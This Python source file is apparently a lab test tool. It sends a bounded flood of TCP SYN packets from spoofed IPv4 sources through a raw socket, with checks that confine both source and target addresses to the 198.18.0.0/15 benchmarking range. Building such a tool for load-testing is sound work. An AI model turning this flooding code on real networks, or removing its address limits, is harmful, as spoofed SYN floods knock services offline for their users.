"""A bounded SYN flood from spoofed IPv4 sources, for the lab's client namespace.

    python synflood.py --count 1000000 --net 198.18.0.0/24 --exclude 198.18.0.10 --dst 198.19.0.99 --dport 80

Sends COUNT TCP SYNs through a raw socket (IP_HDRINCL: the kernel fills in the IP checksum
and id), each from a source address in NET and a source port, so that no two SYNs share a
4-tuple: every SYN is a new flow for the PEP, none a retransmission of another. Sources are
spread over the network's hosts (not its network and broadcast addresses, nor --exclude),
ports in a scrambled order (a multiplier coprime with the port range), sequence numbers
random. Only addresses of the lab's plan are accepted: 198.18.0.0/15 (RFC 2544), so a
mistake can never put foreign addresses on a wire.

Stops after COUNT SYNs or --max-seconds, whichever comes first, and prints one JSON line:
{"sent": n, "seconds": s, "rate": pps, "errors": {errno name: count}, "sources": k}.
Exit status 0 even when stopped early: the caller compares "sent" with what it asked for.

Run as root inside a namespace (ip netns exec ... python synflood.py ...).
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import math
import os
import socket
import struct
import sys
import time

LAB_PLAN = ipaddress.ip_network("198.18.0.0/15")
PORT_LO, PORT_HI = 1024, 65535           # source ports used
IP_HDR = struct.Struct("!BBHHHBBH4s4s")
TCP_HDR = struct.Struct("!HHIIBBHHH")
SYN = 0x02


def fold(s: int) -> int:
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def words(b: bytes) -> int:
    """The sum of b's 16-bit big-endian words (the Internet checksum before folding)."""
    if len(b) % 2:
        b += b"\0"
    return sum(struct.unpack(f"!{len(b) // 2}H", b))


def plan_sources(net: str, exclude: list[str]) -> list[int]:
    n = ipaddress.ip_network(net, strict=True)
    if n.version != 4 or not n.subnet_of(LAB_PLAN):
        raise SystemExit(f"synflood: --net {net}: only networks inside the lab's plan {LAB_PLAN} are allowed")
    skip = {ipaddress.ip_address(a) for a in exclude}
    hosts = [int(a) for a in n.hosts() if a not in skip]
    if not hosts:
        raise SystemExit(f"synflood: --net {net} leaves no source address")
    return hosts


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--net", required=True, help="spoofed sources: a network inside 198.18.0.0/15")
    ap.add_argument("--exclude", action="append", default=[], help="an address of --net not to use (repeatable)")
    ap.add_argument("--dst", required=True, help="destination address (inside 198.18.0.0/15)")
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--max-seconds", type=float, default=60.0)
    ap.add_argument("--seed", type=int, default=None, help="for the port order and the sequence numbers")
    args = ap.parse_args(argv)

    dst = ipaddress.ip_address(args.dst)
    if dst.version != 4 or dst not in LAB_PLAN:
        raise SystemExit(f"synflood: --dst {dst}: only addresses inside the lab's plan {LAB_PLAN} are allowed")
    sources = plan_sources(args.net, args.exclude)
    nsrc = len(sources)
    ports = PORT_HI - PORT_LO + 1
    if args.count > nsrc * ports:
        raise SystemExit(f"synflood: {args.count} SYNs need more 4-tuples than {nsrc} sources x {ports} ports")
    seed = args.seed if args.seed is not None else int.from_bytes(os.urandom(4), "big")
    mult = 40503 + 2 * (seed % 1000)
    while math.gcd(mult, ports) != 1:
        mult += 2
    offset = seed % ports

    # The TCP checksum covers the pseudo header (src, dst, proto, length) and the TCP header.
    # Everything but the source address, source port and sequence number is the same in every
    # SYN: summed once, the rest is added per packet.
    dst_b = dst.packed
    template = bytearray(IP_HDR.pack(0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, b"\0" * 4, dst_b)
                         + TCP_HDR.pack(0, args.dport, 0, 0, 5 << 4, SYN, 64240, 0, 0))
    const = words(dst_b) + socket.IPPROTO_TCP + 20 + words(bytes(template[20:]))
    rnd = memoryview(os.urandom(4 * 65536)).cast("I")

    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    pack_ip_src = struct.Struct("!I").pack_into
    pack_tcp = struct.Struct("!HHI").pack_into        # sport, dport, seq
    pack_csum = struct.Struct("!H").pack_into
    send = s.sendto
    where = (str(dst), 0)
    dport = args.dport
    errors: dict[str, int] = {}
    sent = 0
    start = time.monotonic()
    deadline = start + args.max_seconds
    buf = template
    for i in range(args.count):
        src = sources[i % nsrc]
        port = PORT_LO + (offset + (i // nsrc) * mult) % ports
        seq = rnd[i & 0xFFFF] ^ i
        pack_ip_src(buf, 12, src)
        pack_tcp(buf, 20, port, dport, seq)
        c = const + (src >> 16) + (src & 0xFFFF) + port + (seq >> 16) + (seq & 0xFFFF)
        c = (c & 0xFFFF) + (c >> 16)
        c = (c & 0xFFFF) + (c >> 16)
        pack_csum(buf, 36, ~c & 0xFFFF)
        try:
            send(buf, where)
            sent += 1
        except OSError as e:
            name = errno.errorcode.get(e.errno, str(e.errno))
            errors[name] = errors.get(name, 0) + 1
            if e.errno == errno.ENOBUFS:
                time.sleep(0.0005)
        if not i & 0x3FF and time.monotonic() > deadline:
            break
    seconds = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(seconds, 3), "rate": round(sent / seconds) if seconds else 0,
                      "errors": errors, "sources": nsrc}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
